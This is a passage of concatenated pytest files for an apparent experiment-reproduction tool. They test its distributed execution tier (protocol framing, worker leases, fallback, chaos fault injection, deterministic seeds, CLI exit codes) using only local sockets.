    raise FatalError("injected fatal failure")


def hard_crash(cell_seed=0):
    """Kill the worker process outright (no exception, no cleanup)."""
    os._exit(17)


def interrupt(cell_seed=0):
    """Simulate the user's ^C landing while this cell runs."""
    raise KeyboardInterrupt


def fault_probe(kind, faults=None, cell_seed=0):
    """Consume one injected fault so 'fired' telemetry rides back."""
    fired = bool(faults is not None and faults.should_fire(
        kind, context=f"probe:{cell_seed}"
    ))
    return {"fired": fired}
