"""CLI surface of the distributed tier: flags, exit codes, parity.

``--connect`` implies ``--backend dist``; ``--backend dist`` without an
address is a usage error; an unreachable server is exit 6 when fallback
is off and a finished sweep when it is on.  The end-to-end test drives
a real ``repro fig4 --connect`` against an in-process cluster and holds
its stdout artefact to the serial run's, byte for byte.
"""

import socket

import pytest

from repro.cli import (
    EXIT_OK,
    EXIT_UNREACHABLE,
    EXIT_USAGE,
    build_parser,
    main,
)

from tests.exec.test_dist import _Cluster


def _dead_address():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    return f"127.0.0.1:{port}"


class TestParser:
    def test_connect_and_backend_flags_on_experiments(self):
        args = build_parser().parse_args(
            ["fig4", "--connect", "127.0.0.1:9000"]
        )
        assert args.connect == "127.0.0.1:9000"
        assert args.backend is None
        args = build_parser().parse_args(["fig4", "--backend", "pool"])
        assert args.backend == "pool"

    def test_serve_worker_chaos_subcommands_parse(self):
        args = build_parser().parse_args(
            ["serve", "--port", "7000", "--lease-timeout", "2"]
        )
        assert args.port == 7000 and args.lease_timeout == 2.0
        args = build_parser().parse_args(
            ["worker", "--connect", ":7000", "--id", "w9"]
        )
        assert args.connect == ":7000" and args.id == "w9"
        args = build_parser().parse_args(["chaos", "--workers", "4",
                                          "--kills", "2"])
        assert args.workers == 4 and args.kills == 2

    def test_backend_dist_without_connect_is_usage_error(self, capsys):
        assert main(["fig4", "--quick", "--no-ledger",
                     "--backend", "dist"]) == EXIT_USAGE
        assert "--connect" in capsys.readouterr().err

    def test_bad_worker_chaos_spec_is_usage_error(self, capsys):
        assert main(["worker", "--connect", ":1", "--chaos",
                     "{not json"]) == EXIT_USAGE
        assert "--chaos" in capsys.readouterr().err


class TestExitCodes:
    def test_unreachable_with_fallback_disabled_exits_6(self, capsys):
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--connect", _dead_address(),
                     "--no-dist-fallback",
                     "--dist-deadline", "0.3"]) == EXIT_UNREACHABLE
        assert "unreachable" in capsys.readouterr().err

    def test_unreachable_with_fallback_finishes_the_sweep(self, capsys):
        assert main(["fig4", "--quick", "--seed", "8",
                     "--no-ledger"]) == EXIT_OK
        serial_out = capsys.readouterr().out
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--connect", _dead_address(),
                     "--dist-deadline", "0.3"]) == EXIT_OK
        captured = capsys.readouterr()
        assert captured.out == serial_out
        assert "degrading" in captured.err


class TestDistRunParity:
    def test_connect_run_matches_serial_stdout(self, capsys):
        assert main(["fig4", "--quick", "--seed", "8",
                     "--no-ledger"]) == EXIT_OK
        serial_out = capsys.readouterr().out

        cluster = _Cluster()
        cluster.start_worker("w0")
        cluster.start_worker("w1")
        host, port = cluster.address
        try:
            assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                         "--connect", f"{host}:{port}"]) == EXIT_OK
        finally:
            cluster.stop()
        captured = capsys.readouterr()
        assert captured.out == serial_out
