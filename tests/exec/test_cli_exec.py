"""CLI surface of the exec subsystem: --jobs and --list-cells."""

import json

from repro.cli import EXIT_OK, build_parser, main


class TestParser:
    def test_jobs_and_list_cells_on_every_experiment(self):
        for name in ("fig4", "fig5", "fig6", "table1", "hardening"):
            args = build_parser().parse_args([name, "--jobs", "4"])
            assert args.jobs == 4
            assert args.list_cells is False
            args = build_parser().parse_args([name, "--list-cells"])
            assert args.list_cells is True
            assert args.jobs == 1

    def test_smoke_takes_jobs(self):
        assert build_parser().parse_args(
            ["smoke", "--jobs", "2"]
        ).jobs == 2


class TestListCells:
    def test_prints_plan_without_executing(self, capsys):
        # Full-scale fig5 would run for minutes; listing must be instant
        # and exit 0.
        assert main(["fig5", "--list-cells"]) == EXIT_OK
        out = capsys.readouterr().out
        assert "fig5: 22 cells (0 cached, 22 pending)" in out
        assert "spectre/attempt/9" in out
        assert "search" in out
        # Derived seeds are printed for reproducibility triage.
        assert "0x" in out

    def test_reflects_checkpoint_cache(self, tmp_path, capsys):
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--resume", str(tmp_path)]) == EXIT_OK
        capsys.readouterr()
        assert main(["fig4", "--quick", "--seed", "8", "--list-cells",
                     "--resume", str(tmp_path)]) == EXIT_OK
        out = capsys.readouterr().out
        assert "(4 cached, 0 pending)" in out

    def test_respects_quick_and_seed(self, capsys):
        assert main(["fig5", "--quick", "--seed", "3",
                     "--list-cells"]) == EXIT_OK
        out = capsys.readouterr().out
        assert "fig5: 8 cells" in out  # quick = 3 attempts
        assert "root seed 3" in out


class TestJobsRun:
    def test_parallel_run_matches_serial_artefact(self, tmp_path,
                                                  capsys):
        serial_dir = tmp_path / "serial"
        parallel_dir = tmp_path / "parallel"
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--resume", str(serial_dir)]) == EXIT_OK
        serial_out = capsys.readouterr().out
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--jobs", "2",
                     "--resume", str(parallel_dir)]) == EXIT_OK
        parallel_out = capsys.readouterr().out
        assert parallel_out == serial_out
        assert (parallel_dir / "fig4.json").read_bytes() == \
            (serial_dir / "fig4.json").read_bytes()

    def test_progress_goes_to_stderr_not_stdout(self, capsys):
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--jobs", "2"]) == EXIT_OK
        captured = capsys.readouterr()
        # Progress lines must never contaminate the report artefact.
        assert "[fig4" not in captured.out
        assert "[fig4" in captured.err
        assert "4/4" in captured.err

    def test_faulted_parallel_smoke_degrades_not_crashes(self, capsys):
        # The CI smoke line: every fault kind armed, two workers.
        exit_code = main(["smoke", "--seed", "8", "--jobs", "2",
                          "--inject-faults", "classifier_divergence=1.0",
                          "--max-fault-fires", "1"])
        captured = capsys.readouterr()
        assert exit_code in (EXIT_OK, 4)
        assert "calibration" in captured.out


class TestShardCleanup:
    def test_parallel_checkpoint_leaves_single_artefact(self, tmp_path,
                                                        capsys):
        assert main(["fig4", "--quick", "--seed", "8", "--no-ledger",
                     "--jobs", "2",
                     "--resume", str(tmp_path)]) == EXIT_OK
        assert not (tmp_path / "fig4.json.d").exists()
        payload = json.loads((tmp_path / "fig4.json").read_text())
        assert set(payload["cells"]) == {
            "host/basicmath", "host/bitcount", "host/sha", "host/qsort",
        }
