"""Wire protocol: framing integrity and lossless job description.

Two invariants are pinned: a frame that was corrupted, truncated or
spoken by a different protocol version is *detected* (FrameError) and
never silently parsed; and a runner job tuple survives the
describe/rebuild round trip exactly — same fn, same kwargs, same
derived fault injector stream, same trace config — because that is
what makes a remotely computed cell byte-identical to a local one.
"""

import socket
import threading

import pytest

from repro.core.resilience import FaultInjector
from repro.errors import FrameError, ProtocolError
from repro.exec.backends import invoke_cell
from repro.exec.proto import (
    HEADER_SIZE,
    decode_header,
    decode_payload,
    describe_job,
    encode_frame,
    read_frame,
    rebuild_job,
    resolve_fn,
    write_frame,
)

from tests.exec.cells import fault_probe, seeded_value


def _roundtrip_bytes(data):
    length, digest = decode_header(data[:HEADER_SIZE])
    return decode_payload(data[HEADER_SIZE:HEADER_SIZE + length], digest)


class TestFraming:
    def test_roundtrip(self):
        message = {"type": "result", "outcomes": [["k", {"v": 1}]],
                   "unicode": "λ-лит"}
        assert _roundtrip_bytes(encode_frame(message)) == message

    def test_corrupted_payload_detected(self):
        data = bytearray(encode_frame({"type": "ready", "pad": "x" * 64}))
        data[-3] ^= 0xFF
        with pytest.raises(FrameError, match="digest mismatch"):
            _roundtrip_bytes(bytes(data))

    def test_corrupted_header_detected(self):
        data = bytearray(encode_frame({"type": "ready"}))
        data[0] ^= 0xFF
        with pytest.raises(FrameError, match="magic"):
            decode_header(bytes(data[:HEADER_SIZE]))

    def test_version_mismatch_detected(self):
        data = bytearray(encode_frame({"type": "ready"}))
        data[2] += 1
        with pytest.raises(FrameError, match="version"):
            decode_header(bytes(data[:HEADER_SIZE]))

    def test_absurd_length_is_corruption_not_allocation(self):
        data = bytearray(encode_frame({"type": "ready"}))
        data[3:7] = (0xFF, 0xFF, 0xFF, 0xFF)
        with pytest.raises(FrameError, match="ceiling"):
            decode_header(bytes(data[:HEADER_SIZE]))

    def test_short_header_detected(self):
        with pytest.raises(FrameError, match="short"):
            decode_header(b"rd\x01")


class TestSocketTransport:
    def test_write_read_over_a_real_socket(self):
        server, client = socket.socketpair()
        try:
            messages = [{"n": index, "body": "x" * (index * 1000)}
                        for index in range(4)]
            writer = threading.Thread(
                target=lambda: [write_frame(client, m) for m in messages]
            )
            writer.start()
            received = [read_frame(server) for _ in messages]
            writer.join()
            assert received == messages
        finally:
            server.close()
            client.close()

    def test_eof_mid_frame_is_connection_error(self):
        server, client = socket.socketpair()
        try:
            client.sendall(encode_frame({"type": "ready"})[:5])
            client.close()
            with pytest.raises(ConnectionError):
                read_frame(server)
        finally:
            server.close()


class TestJobDescription:
    def test_plain_job_roundtrip(self):
        job = ("cell/0", seeded_value, {"tag": "t", "cell_seed": 9},
               None, None)
        rebuilt = rebuild_job(describe_job(job))
        assert rebuilt[0] == job[0]
        assert rebuilt[1] is seeded_value
        assert rebuilt[2] == job[2]
        assert invoke_cell(rebuilt[1], rebuilt[2])["value"] == \
            invoke_cell(job[1], job[2])["value"]

    def test_fault_injector_spec_reproduces_the_stream(self):
        injector = FaultInjector(seed=42, rates={"hpc_drop": 0.5},
                                 max_fires=3)
        job = ("cell/f", fault_probe,
               {"kind": "hpc_drop", "faults": injector, "cell_seed": 1},
               "faults", None)
        described = describe_job(job)
        assert described["faults"] == {"seed": 42,
                                       "rates": {"hpc_drop": 0.5},
                                       "max_fires": 3}
        # The original injector must NOT travel (not JSON-safe).
        assert "faults" not in described["kwargs"]
        first = invoke_cell(*rebuild_job(described)[1:4])
        second = invoke_cell(*rebuild_job(described)[1:4])
        assert first["value"] == second["value"]
        assert first.get("fired") == second.get("fired")

    def test_trace_config_roundtrip(self):
        from repro.obs import TraceConfig

        trace = {"config": TraceConfig(categories=("exec",)),
                 "key": "cell/0", "seed": 5}
        job = ("cell/0", seeded_value, {"tag": "t"}, None, trace)
        rebuilt = rebuild_job(describe_job(job))
        assert rebuilt[4]["key"] == "cell/0"
        assert rebuilt[4]["seed"] == 5
        assert rebuilt[4]["config"].categories == ("exec",)
        local = invoke_cell(job[1], job[2], trace=trace)
        remote = invoke_cell(rebuilt[1], rebuilt[2], trace=rebuilt[4])
        assert local["trace"] == remote["trace"]
        assert local["metrics"] == remote["metrics"]

    def test_unimportable_fn_rejected(self):
        with pytest.raises(ProtocolError, match="importable"):
            describe_job(("k", lambda: None, {}, None, None))

    def test_unserialisable_kwargs_rejected(self):
        with pytest.raises(ProtocolError, match="JSON"):
            describe_job(("k", seeded_value, {"tag": object()},
                          None, None))

    def test_resolve_fn_failure_is_typed(self):
        with pytest.raises(ProtocolError, match="cannot resolve"):
            resolve_fn("repro.no.such.module:fn")
        with pytest.raises(ProtocolError, match="cannot resolve"):
            resolve_fn("repro.exec.proto:no_such_function")
