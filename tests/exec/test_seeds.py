"""The seed-derivation contract: stable, collision-free, documented."""

import hashlib
import subprocess
import sys

from repro.exec import derive_seed, stable_hash


class TestStableHash:
    def test_matches_documented_scheme(self):
        material = "fig5\x00training\x0042".encode("utf-8")
        expected = int.from_bytes(
            hashlib.sha256(material).digest()[:8], "big"
        )
        assert derive_seed("fig5", "training", 42) == expected

    def test_golden_value_pinned(self):
        # A changed derivation silently invalidates every checkpoint and
        # breaks serial/parallel parity with older runs — pin it.
        assert stable_hash("a", "b", 1) == 0x784AE3F14AE3A422

    def test_nul_separator_prevents_concatenation_collisions(self):
        assert stable_hash("ab", "c") != stable_hash("a", "bc")

    def test_survives_interpreter_restart(self):
        # Python's builtin hash() would fail this under PYTHONHASHSEED
        # randomisation; sha256 must not.
        import os

        import repro

        src = os.path.dirname(os.path.dirname(repro.__file__))
        code = ("from repro.exec import derive_seed; "
                "print(derive_seed('fig4', 'host/sha', 8))")
        outputs = {
            subprocess.run(
                [sys.executable, "-c", code],
                capture_output=True, text=True, check=True,
                env=dict(os.environ, PYTHONHASHSEED=hash_seed,
                         PYTHONPATH=src),
            ).stdout.strip()
            for hash_seed in ("0", "1", "12345")
        }
        assert len(outputs) == 1
        assert outputs == {str(derive_seed("fig4", "host/sha", 8))}


class TestDeriveSeed:
    def test_distinct_per_cell(self):
        seeds = {
            derive_seed("fig5", f"spectre/attempt/{i}", 0)
            for i in range(100)
        }
        assert len(seeds) == 100

    def test_distinct_per_experiment_and_root(self):
        assert derive_seed("fig5", "training", 0) != \
            derive_seed("fig6", "training", 0)
        assert derive_seed("fig5", "training", 0) != \
            derive_seed("fig5", "training", 1)

    def test_fits_in_64_bits(self):
        assert 0 <= derive_seed("x", "y", 2**63) < 2**64
