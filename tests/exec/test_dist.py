"""The distributed tier end to end, in one process.

The real ``DistServer`` runs on an asyncio loop in a daemon thread,
real ``run_worker`` loops run in further threads (cells execute
through the same ``invoke_batch`` path the warm pool uses), and a real
``DistBackend`` streams outcomes over real sockets.  What these tests
pin down is the contract the chaos harness then stresses with
processes and signals: dist outcomes are byte-identical to serial
ones, a worker that stops heartbeating loses its lease and its cells
land anyway, and an unreachable server degrades to a local backend —
or to a typed error when fallback is off.
"""

import io
import socket
import threading
import time

import pytest

from repro.core.resilience import FaultInjector
from repro.errors import FrameError, ServerUnreachableError
from repro.exec.backends import SerialBackend, invoke_cell
from repro.exec.dist import (
    DistBackend,
    DistServer,
    _chaos_send,
    parse_address,
    run_worker,
)
from repro.exec.proto import read_frame, rebuild_job, write_frame

from tests.exec.cells import seeded_value, summed, transient_boom


def _jobs(count=6):
    return [(f"cell/{index}", seeded_value,
             {"tag": f"t{index}", "cell_seed": index}, None, None)
            for index in range(count)]


def _scrub(outcome):
    """Outcomes minus wall-clock noise (what the ledger strips too)."""
    return {key: value for key, value in outcome.items()
            if key != "elapsed"}


def _serial_reference(jobs):
    return {key: _scrub(outcome)
            for key, outcome in SerialBackend().run_wave(jobs)}


class _Cluster:
    """A live DistServer on a daemon thread plus worker threads."""

    def __init__(self, **server_kwargs):
        server_kwargs.setdefault("stream", io.StringIO())
        self.server = DistServer(host="127.0.0.1", port=0,
                                 **server_kwargs)
        self._loop = {}
        self.worker_codes = {}
        self._threads = []
        started = threading.Event()

        def serve():
            import asyncio

            async def main():
                await self.server.start()
                self._loop["loop"] = asyncio.get_running_loop()
                started.set()
                try:
                    await self.server.serve_forever()
                except asyncio.CancelledError:
                    pass

            asyncio.run(main())

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        assert started.wait(10.0), "dist server failed to start"
        self._threads.append(thread)

    @property
    def address(self):
        return ("127.0.0.1", self.server.port)

    def start_worker(self, worker_id, **kwargs):
        kwargs.setdefault("reconnect_deadline", 1.0)

        def loop():
            self.worker_codes[worker_id] = run_worker(
                self.address, worker_id=worker_id,
                stream=io.StringIO(), **kwargs
            )

        thread = threading.Thread(target=loop, daemon=True)
        thread.start()
        self._threads.append(thread)

    def stop(self):
        import asyncio

        loop = self._loop.get("loop")
        if loop is not None and loop.is_running():
            try:
                asyncio.run_coroutine_threadsafe(
                    self.server.stop(), loop
                ).result(5.0)
            except Exception:
                pass
        for thread in self._threads:
            thread.join(timeout=5.0)


@pytest.fixture
def events():
    seen = []

    def record(kind, **info):
        seen.append((kind, info))

    record.seen = seen
    return record


def _kinds(events):
    return [kind for kind, _ in events.seen]


class TestParity:
    def test_dist_outcomes_match_serial_byte_for_byte(self, events):
        jobs = _jobs(9)
        cluster = _Cluster(lease_timeout=5.0)
        cluster.start_worker("w0")
        cluster.start_worker("w1")
        backend = DistBackend(cluster.address, events=events,
                              stream=io.StringIO())
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
        finally:
            backend.close()
            cluster.stop()
        assert got == _serial_reference(jobs)
        assert _kinds(events) == []     # no mishaps on the happy path

    def test_error_outcomes_travel_like_values(self):
        jobs = [("cell/ok", seeded_value, {"tag": "x"}, None, None),
                ("cell/boom", transient_boom, {"cell_seed": 3},
                 None, None)]
        cluster = _Cluster()
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, stream=io.StringIO())
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
        finally:
            backend.close()
            cluster.stop()
        assert got == _serial_reference(jobs)
        assert got["cell/boom"]["status"] == "err"
        assert got["cell/boom"]["recoverable"] is True

    def test_dependent_waves_run_back_to_back(self):
        cluster = _Cluster()
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, stream=io.StringIO())
        try:
            first = dict(backend.run_wave(_jobs(3)))
            second_jobs = [("cell/sum", summed,
                            {"values": first["cell/0"]["value"],
                             "factor": 2.0}, None, None)]
            second = dict(backend.run_wave(second_jobs))
        finally:
            backend.close()
            cluster.stop()
        assert _scrub(second["cell/sum"]) == \
            _serial_reference(second_jobs)["cell/sum"]


def _stall_worker(address, grabbed):
    """A worker that claims one batch and then goes silent — the shape
    of a wedged process: connected, leased, never heartbeating."""
    sock = socket.create_connection(address, timeout=10.0)
    try:
        write_frame(sock, {"type": "hello", "role": "worker",
                           "worker_id": "stall"})
        read_frame(sock)                        # welcome
        write_frame(sock, {"type": "ready"})
        read_frame(sock)                        # the batch: keep it
        grabbed.set()
        while True:
            read_frame(sock)                    # ignore until torn down
    except (ConnectionError, FrameError, OSError):
        pass
    finally:
        sock.close()


class TestLeaseRecovery:
    def test_silent_worker_loses_its_lease_and_cells_land_anyway(
            self, events):
        jobs = _jobs(4)
        cluster = _Cluster(lease_timeout=0.4, hedge=False)
        grabbed = threading.Event()
        staller = threading.Thread(
            target=_stall_worker, args=(cluster.address, grabbed),
            daemon=True,
        )
        staller.start()
        time.sleep(0.2)                 # let the staller reach ready
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, events=events,
                              stream=io.StringIO())
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
        finally:
            backend.close()
            cluster.stop()
        assert grabbed.is_set(), "staller never received a batch"
        assert got == _serial_reference(jobs)
        requeues = [info for kind, info in events.seen
                    if kind == "requeue"]
        assert requeues, "expected the stalled lease to be requeued"
        assert any("lease expired on stall" in (info.get("reason") or "")
                   for info in requeues)
        assert cluster.server.stats["requeues"] >= 1

    def test_hedging_covers_a_straggler_without_requeue_churn(self):
        # Hedge eligibility opens at lease_timeout/2, well before the
        # lease itself expires — the idle worker duplicates the
        # straggler's batch instead of waiting for a revocation.
        jobs = _jobs(4)
        cluster = _Cluster(lease_timeout=1.0, hedge=True)
        grabbed = threading.Event()
        staller = threading.Thread(
            target=_stall_worker, args=(cluster.address, grabbed),
            daemon=True,
        )
        staller.start()
        time.sleep(0.2)
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, stream=io.StringIO())
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
        finally:
            backend.close()
            cluster.stop()
        assert got == _serial_reference(jobs)
        assert cluster.server.stats["hedges"] >= 1


def _dead_address():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    return ("127.0.0.1", port)


class TestDegradation:
    def test_unreachable_server_degrades_to_local_backend(self, events):
        jobs = _jobs(4)
        backend = DistBackend(_dead_address(), fallback_jobs=1,
                              connect_deadline=0.3, events=events,
                              stream=io.StringIO())
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
            # Sticky: the next wave goes straight to the fallback.
            again = dict(backend.run_wave(_jobs(2)))
        finally:
            backend.close()
        assert got == _serial_reference(jobs)
        assert len(again) == 2
        assert _kinds(events).count("fallback") == 1
        assert backend.jobs == 1    # runner sees the fallback width

    def test_fallback_disabled_raises_the_typed_error(self):
        backend = DistBackend(_dead_address(), fallback=False,
                              connect_deadline=0.3,
                              stream=io.StringIO())
        with pytest.raises(ServerUnreachableError, match="unreachable"):
            list(backend.run_wave(_jobs(2)))
        backend.close()


def _flaky_server(listener, drops=1):
    """A stand-in server whose first *drops* connections die right
    after the submit — exercising the client's resubmit path."""
    state = {"drops": 0}

    def serve():
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            try:
                read_frame(conn)                        # hello
                write_frame(conn, {"type": "welcome",
                                   "lease_timeout": 5.0})
                message = read_frame(conn)              # submit
                if state["drops"] < drops:
                    state["drops"] += 1
                    conn.close()
                    continue
                for described in message["jobs"]:
                    key, fn, kwargs, faults_kw, trace = \
                        rebuild_job(described)
                    write_frame(conn, {
                        "type": "outcome",
                        "wave_id": message["wave_id"], "key": key,
                        "outcome": invoke_cell(fn, kwargs, faults_kw,
                                               trace),
                        "worker_id": "inline",
                    })
                write_frame(conn, {"type": "wave_done",
                                   "wave_id": message["wave_id"]})
                read_frame(conn)                        # until EOF
            except (ConnectionError, FrameError, OSError):
                pass
            finally:
                conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return thread


class TestReconnect:
    def test_mid_wave_disconnect_resubmits_only_whats_missing(
            self, events):
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        _flaky_server(listener, drops=1)
        jobs = _jobs(5)
        backend = DistBackend(listener.getsockname(), events=events,
                              stream=io.StringIO())
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
        finally:
            backend.close()
            listener.close()
        assert got == _serial_reference(jobs)
        resubmits = [info for kind, info in events.seen
                     if kind == "resubmit"]
        assert resubmits == [{"cells": 5}]


class _Sink:
    """Collects sent bytes so chaos mishaps can be compared exactly."""

    def __init__(self):
        self.data = b""

    def sendall(self, data):
        self.data += data


def _chaos_stream(seed, frames=40):
    injector = FaultInjector(seed=seed, rates={"frame_drop": 0.2,
                                               "frame_corrupt": 0.2})
    sink = _Sink()
    lock = threading.Lock()
    for index in range(frames):
        _chaos_send(sink, {"type": "heartbeat", "lease_id": f"L{index}"},
                    lock, injector)
    return sink.data, dict(injector.fired)


class TestChaosDeterminism:
    def test_same_seed_produces_the_same_mishaps(self):
        first, fired = _chaos_stream(seed=11)
        second, _ = _chaos_stream(seed=11)
        assert first == second
        assert fired.get("frame_drop", 0) > 0
        assert fired.get("frame_corrupt", 0) > 0

    def test_different_seed_produces_different_mishaps(self):
        first, _ = _chaos_stream(seed=11)
        second, _ = _chaos_stream(seed=12)
        assert first != second


class TestParseAddress:
    @pytest.mark.parametrize("text, expected", [
        ("127.0.0.1:9000", ("127.0.0.1", 9000)),
        (":9000", ("127.0.0.1", 9000)),
        ("9000", ("127.0.0.1", 9000)),
        (("10.0.0.1", "8000"), ("10.0.0.1", 8000)),
    ])
    def test_accepts(self, text, expected):
        assert parse_address(text) == expected

    def test_rejects_garbage(self):
        with pytest.raises(ValueError, match="HOST:PORT"):
            parse_address("localhost:http")
