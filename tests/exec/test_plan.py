"""SweepPlan declaration semantics: validation, ordering, waves."""

import pytest

from repro.exec import SweepPlan, derive_seed

from tests.exec.cells import seeded_value, summed


def _plan():
    return SweepPlan("toy", root_seed=7)


class TestAdd:
    def test_returns_derived_seed(self):
        plan = _plan()
        seed = plan.add("a", seeded_value, kwargs={"tag": "a"})
        assert seed == derive_seed("toy", "a", 7)
        [cell] = list(plan)
        assert cell.seed == seed

    def test_duplicate_key_rejected(self):
        plan = _plan()
        plan.add("a", seeded_value, kwargs={"tag": "a"})
        with pytest.raises(ValueError, match="duplicate"):
            plan.add("a", seeded_value, kwargs={"tag": "a"})

    def test_unknown_dependency_rejected(self):
        plan = _plan()
        with pytest.raises(ValueError, match="unknown cell"):
            plan.add("b", summed, kwargs={"factor": 2},
                     deps={"values": "a"})

    def test_dependency_must_be_declared_first(self):
        # Declaration order IS execution order for the serial reference
        # backend; forward references would break that contract.
        plan = _plan()
        with pytest.raises(ValueError):
            plan.add("b", summed, deps={"values": "a"})
        plan.add("a", seeded_value, kwargs={"tag": "a"})
        plan.add("b", summed, kwargs={"factor": 2}, deps={"values": "a"})

    def test_kwarg_dependency_collision_rejected(self):
        plan = _plan()
        plan.add("a", seeded_value, kwargs={"tag": "a"})
        with pytest.raises(ValueError, match="dependency-injected"):
            plan.add("b", summed, kwargs={"factor": 2, "values": 1},
                     deps={"values": "a"})


class TestPreset:
    def test_preset_satisfies_dependency(self):
        plan = _plan()
        plan.preset("a", {"draw": 0.5})
        plan.add("b", summed, kwargs={"factor": 2}, deps={"values": "a"})
        assert len(plan) == 1  # presets are not cells

    def test_preset_key_collision_rejected(self):
        plan = _plan()
        plan.add("a", seeded_value, kwargs={"tag": "a"})
        with pytest.raises(ValueError):
            plan.preset("a", 1)


class TestWaves:
    def test_levels_follow_dependencies(self):
        plan = _plan()
        plan.add("a", seeded_value, kwargs={"tag": "a"})
        plan.add("b", seeded_value, kwargs={"tag": "b"})
        plan.add("c", summed, kwargs={"factor": 2}, deps={"values": "a"})
        plan.add("d", summed, kwargs={"factor": 3}, deps={"values": "c"})
        waves = plan.waves()
        assert [[cell.key for cell in wave] for wave in waves] == \
            [["a", "b"], ["c"], ["d"]]

    def test_preset_dependencies_live_in_wave_zero(self):
        plan = _plan()
        plan.preset("a", {"draw": 1.0})
        plan.add("b", summed, kwargs={"factor": 2}, deps={"values": "a"})
        waves = plan.waves()
        assert [[cell.key for cell in wave] for wave in waves] == [["b"]]

    def test_local_cells_flagged(self):
        plan = _plan()
        assert not plan.has_local_cells
        plan.add("a", seeded_value, kwargs={"tag": "a"}, local=True)
        assert plan.has_local_cells
