"""Golden determinism across *engines*: sb ≡ step at the artefact level.

The superblock engine is deliberately ambient — not part of manifests,
run ids or cell cache keys — so its acceptance test lives here: the
same quick experiment run under ``--engine sb`` and under the step
reference must produce ledger runs that ``repro compare`` calls
identical, on both microarchitectures, and a killed-and-resumed
parallel sb run (closures die mid-sweep, shards survive) must fuse
into the byte-identical step-reference artefact.
"""

import pytest

from repro.cli import EXIT_OK, main
from repro.core.experiments import run_fig5
from repro.core.experiments.fig5 import fig5_meta, plan_fig5
from repro.cpu import engine_override
from repro.exec import CellCache, ProcessPoolBackend, execute_plan, open_store

FIG5_KNOBS = dict(
    seed=8, attempts=2, detector_names=("lr", "nn"), training_benign=40,
    training_attack=40, attempt_samples=12, attempt_benign=6,
)


def _run_dir(ledger):
    [run_dir] = [path for path in ledger.iterdir()
                 if (path / "manifest.json").is_file()]
    return run_dir


class TestEngineCompareParity:
    """``repro compare`` exits 0 between sb and step ledger runs."""

    @pytest.mark.parametrize("fig", ("fig4", "fig5"))
    @pytest.mark.parametrize("uarch", ("inorder", "ooo"))
    def test_quick_run_compares_clean(self, tmp_path, fig, uarch):
        cli = [fig, "--quick", "--seed", "8", "--uarch", uarch]
        sb_ledger = tmp_path / "sb"
        step_ledger = tmp_path / "step"
        with engine_override("sb"):
            assert main(cli + ["--ledger", str(sb_ledger)]) == EXIT_OK
        with engine_override("step"):
            assert main(cli + ["--ledger", str(step_ledger)]) == EXIT_OK
        assert main(["compare", str(_run_dir(sb_ledger)),
                     str(_run_dir(step_ledger))]) == EXIT_OK

    def test_engine_flag_reaches_the_ambient_mode(self, tmp_path, capsys):
        # The CLI spelling of the same contract: --engine step and
        # --engine sb runs of one experiment compare clean.
        from repro.cpu import engine_mode, set_engine_mode

        previous = engine_mode()
        sb_ledger = tmp_path / "sb"
        step_ledger = tmp_path / "step"
        try:
            assert main(["--engine", "sb", "fig5", "--quick", "--seed",
                         "8", "--ledger", str(sb_ledger)]) == EXIT_OK
            assert main(["--engine", "step", "fig5", "--quick", "--seed",
                         "8", "--ledger", str(step_ledger)]) == EXIT_OK
        finally:
            set_engine_mode(previous)
        assert main(["compare", str(_run_dir(sb_ledger)),
                     str(_run_dir(step_ledger))]) == EXIT_OK


class TestSuperblockKillResume:
    """Satellite: kill+resume mid-block via the chaos harness.

    Closures are executing inside pool workers when the interrupt
    lands; the surviving checkpoint shards plus the re-run cells (all
    translated code) must still reproduce the step reference bytes.
    """

    def test_killed_resumed_sb_run_matches_step_reference(self, tmp_path):
        # Reference: uninterrupted serial run on the step engine.
        reference_dir = tmp_path / "reference"
        reference_dir.mkdir()
        with engine_override("step"):
            reference = run_fig5(checkpoint=reference_dir, **FIG5_KNOBS)

        # Run 1 (sb): warm pool, killed while the attempt wave runs.
        cache_root = tmp_path / "cellcache"
        killed_dir = tmp_path / "killed"
        killed_dir.mkdir()
        plan = plan_fig5(**FIG5_KNOBS)
        for cell in plan:
            if cell.key.startswith("spectre/"):
                cell.fn = _interrupt
        store = open_store(killed_dir, "fig5", fig5_meta(
            FIG5_KNOBS["seed"], "basicmath", FIG5_KNOBS["attempts"],
            FIG5_KNOBS["detector_names"], FIG5_KNOBS["training_benign"],
            FIG5_KNOBS["training_attack"], FIG5_KNOBS["attempt_samples"],
            FIG5_KNOBS["attempt_benign"],
        ))
        with engine_override("sb"):
            with pytest.raises(KeyboardInterrupt):
                execute_plan(plan, store=store,
                             backend=ProcessPoolBackend(2),
                             cell_cache=CellCache(cache_root))

            # Run 2 (sb): resume on the pool; surviving shard + rerun
            # cells fuse into the reference artefact, byte for byte.
            resumed = run_fig5(checkpoint=killed_dir, jobs=2,
                               cell_cache=CellCache(cache_root),
                               **FIG5_KNOBS)
        assert resumed.format() == reference.format()
        assert (killed_dir / "fig5.json").read_bytes() == \
